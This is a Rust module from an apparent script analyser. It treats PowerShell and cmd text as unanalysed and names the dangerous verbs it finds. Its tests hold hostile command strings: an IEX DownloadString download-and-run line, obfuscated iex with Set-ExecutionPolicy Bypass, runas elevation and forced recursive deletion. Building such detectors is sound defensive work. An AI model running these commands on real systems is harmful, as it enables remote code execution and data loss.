//! PowerShell and cmd: recognised, not analysed.
//!
//! The text is one gap, whatever it holds. The names of dangerous verbs in it are
//! listed in the gap, so that a person and a judge see what was there.

use super::library::{POWERSHELL_ALIASES, POWERSHELL_DANGEROUS};
use super::reading::CodeReading;
use crate::ir::{Act, Code, Coverage, Gap, GapKind, Origin, Span, Taint};

/// The command that an alias of PowerShell stands for, both in lower case.
#[must_use]
pub fn command_of_alias(alias: &str) -> Option<&'static str> {
    let at = POWERSHELL_ALIASES
        .binary_search_by_key(&alias, |(alias, _)| alias)
        .ok()?;
    POWERSHELL_ALIASES.get(at).map(|(_, command)| *command)
}

/// What is known of PowerShell text: nothing but the dangerous verbs it names.
#[must_use]
pub fn coverage(text: &str, span: Span) -> Coverage {
    Coverage::Opaque(Gap {
        kind: kind(text),
        span,
    })
}

pub(crate) fn read(text: &str, reading: &mut CodeReading<'_>) {
    reading.act(Act::Execute {
        code: Code::Inline {
            language: "powershell",
        },
        origin: Origin {
            seen: false,
            taint: reading.source.taint.with(Taint::NONE),
        },
    });
    reading.gap(kind(text));
}

fn kind(text: &str) -> GapKind {
    let verbs = dangerous_verbs(text);
    GapKind::Syntax(if verbs.is_empty() {
        "powershell is not analysed".to_owned()
    } else {
        format!("powershell is not analysed; it names {}", verbs.join(", "))
    })
}

/// The dangerous verbs that a text names, in the order they come.
#[must_use]
pub fn dangerous_verbs(text: &str) -> Vec<&'static str> {
    let mut found = Vec::new();
    // A backtick inside a name is dropped by PowerShell, a caret by cmd.
    let plain: String = text
        .chars()
        .filter(|c| !matches!(c, '`' | '^' | '"' | '\''))
        .collect::<String>()
        .to_lowercase();
    let words = plain.split(|c: char| !(c.is_alphanumeric() || matches!(c, '-' | '.' | '_')));
    for word in words {
        let word = word.trim_matches('.');
        let names = [word, word.rsplit('.').next().unwrap_or(word)];
        for name in names {
            if let Ok(at) = POWERSHELL_DANGEROUS.binary_search(&name)
                && let Some(verb) = POWERSHELL_DANGEROUS.get(at)
                && !found.contains(verb)
            {
                found.push(*verb);
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dangerous_verbs_are_named() {
        let check =
            |text: &str, expected: &[&str]| assert_eq!(dangerous_verbs(text), expected, "{text}");
        check("Get-ChildItem | Select-Object Name", &[]);
        check("Remove-Item -Recurse -Force C:\\x", &["remove-item"]);
        check(
            "IEX (New-Object Net.WebClient).DownloadString('http://e')",
            &["iex", "new-object", "downloadstring"],
        );
        check(
            "i`e`x $x; Set-ExecutionPolicy Bypass",
            &["iex", "set-executionpolicy"],
        );
        check("& 'Invoke-Expression' $x", &["invoke-expression"]);
        check(
            "start-process pwsh -verb runas",
            &["start-process", "pwsh", "runas"],
        );
        check("del /s /q C:\\x & reg add HKLM\\x", &["del", "reg"]);
    }

    #[test]
    fn powershell_is_never_complete() {
        assert!(!coverage("Get-Date", Span::default()).is_complete());
    }
}
